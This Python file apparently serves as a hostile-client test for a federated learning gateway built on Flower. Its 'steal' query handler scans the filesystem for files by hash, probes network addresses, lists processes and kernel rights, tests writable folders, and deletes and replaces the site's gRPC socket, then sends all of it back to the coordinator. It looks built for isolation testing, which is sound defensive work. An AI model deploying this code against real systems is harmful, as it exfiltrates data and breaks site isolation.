"""What a hostile coordinator pushes to a gateway: it takes whatever its user can reach.

Also a program of its own (`python evil_client.py < WANTED.json`), so that the same code can be run where it must find
what it looks for.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import grpc
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

SITE_SOCKET = Path("/run/fedward/site.sock")
KERNEL = {"/proc", "/sys", "/dev"}


def readable_files() -> Iterator[Path]:
    """Every file that this user can list."""
    for parent, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if str(Path(parent, name)) not in KERNEL]
        yield from (Path(parent, name) for name in names)


def find(wanted: dict[str, int]) -> dict[str, str]:
    """Path of each wanted file, by its SHA-256; `wanted` gives sizes, so that few files are read."""
    found = {}
    for path in readable_files():
        with contextlib.suppress(OSError):
            if path.stat().st_size in wanted.values() and path.is_file():
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                if digest in wanted:
                    found[digest] = str(path)
    return found


def connects(host: str, port: int) -> bool:
    """Whether a TCP connection can be made."""
    try:
        socket.create_connection((host, port), timeout=2.0).close()
    except OSError:
        return False
    return True


def ask_the_site(frame: bytes) -> str:
    """What the site service says to bytes of our own: its reply, or the code of its refusal."""
    with grpc.insecure_channel(f"unix:{SITE_SOCKET}") as channel:
        call = channel.unary_unary("/fedward.Site/Exchange", request_serializer=None, response_deserializer=None)
        try:
            return f"reply: {call(frame, timeout=30.0).hex()}"
        except grpc.RpcError as error:
            return f"{error.code().name} {error.details()}"


def replace_socket() -> str:
    """Put a socket of our own in the place of the site's; says what came of it."""
    try:
        SITE_SOCKET.unlink()
    except OSError as error:
        return type(error).__name__ + f" {error.errno}"
    return "replaced"


def processes() -> list[str]:
    """Command lines of all processes that can be seen."""
    lines = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            lines.append(path.read_bytes().replace(b"\0", b" ").decode(errors="replace").strip())
    return sorted(lines)


def writable(folders: tuple[str, ...]) -> list[str]:
    """Those of the folders in which a file can be made."""
    found = []
    for folder in folders:
        path = Path(folder, f"evil-{os.getpid()}")
        with contextlib.suppress(OSError):
            path.touch(exist_ok=False)
            path.unlink()
            found.append(folder)
    return found


def status() -> dict[str, str]:
    """Rights of this process as the kernel states them."""
    rows = (line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    return {key: value.strip() for key, value in rows if key in ("Uid", "CapEff", "CapBnd", "NoNewPrivs")}


def look(wanted: dict[str, Any]) -> dict[str, Any]:
    """Try everything.

    Args:
        wanted: `files`: SHA-256 to size in bytes; `addresses`: host and port; `folders`: where to write; `frames`: hex,
            what to send to the site.
    """
    return {
        "files": find(wanted["files"]),
        "reached": [address for address in wanted["addresses"] if connects(*address)],
        "written": writable(tuple(wanted["folders"])),
        "socket": replace_socket() if wanted["frames"] else "",
        "answers": [ask_the_site(bytes.fromhex(frame)) for frame in wanted["frames"]],
        "interfaces": sorted(path.name for path in Path("/sys/class/net").iterdir()),
        "processes": processes(),
        "status": status(),
    }


app = ClientApp()


@app.query()
def steal(message: Message, _context: Context) -> Message:
    """Runs in the gateway, inside Flower's ClientApp."""
    wanted = json.loads(str(message.content.config_records["wanted"]["json"]))
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(look(wanted))})}), reply_to=message)


if __name__ == "__main__":
    json.dump(look(json.load(sys.stdin)), sys.stdout)
